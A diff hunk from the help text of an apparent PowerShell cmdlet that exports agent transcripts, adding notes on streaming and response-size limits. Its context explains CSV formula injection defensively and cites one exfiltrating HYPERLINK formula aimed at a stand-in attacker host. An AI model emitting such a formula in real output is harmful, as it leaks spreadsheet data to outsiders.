@@ -13,6 +13,8 @@ Formats:
 
 CSV formula injection: a spreadsheet runs a cell that starts with =, +, -, @, a tab or a carriage return as a formula, and agent text can be steered to start that way (for example =HYPERLINK("https://attacker.example/?"&A1,"Click")). -Format Csv therefore prefixes such cells with an apostrophe, which spreadsheets show as text. -NoFormulaEscape writes the raw text, as Export-Csv does. Plain Get-GumloopMessage | Export-Csv never escapes.
 
+A fetched transcript is streamed: each message is written as soon as its JSON has arrived, so memory stays flat however long the transcript is (a million messages add a few tens of MB). The connection's response-size limit (Connect-Gumloop -MaxResponseSizeMB, 128 MB by default) applies to buffered responses; a streamed transcript is not limited in total, only each message in it is held to that limit. Author names come after the messages in the service's response, so a transcript longer than about 4 MB of messages is read twice: once for the session's fields, once for its messages.
+
 Existing files are never overwritten without -Force; files are written to a temporary name and renamed when complete, so a stopped or failed export leaves no partial file. A session that cannot be fetched or written is a non-terminating error, and the other sessions are still exported. Each written file is output as a FileInfo with Format, SessionCount and MessageCount.
 '@
     Parameters  = @{
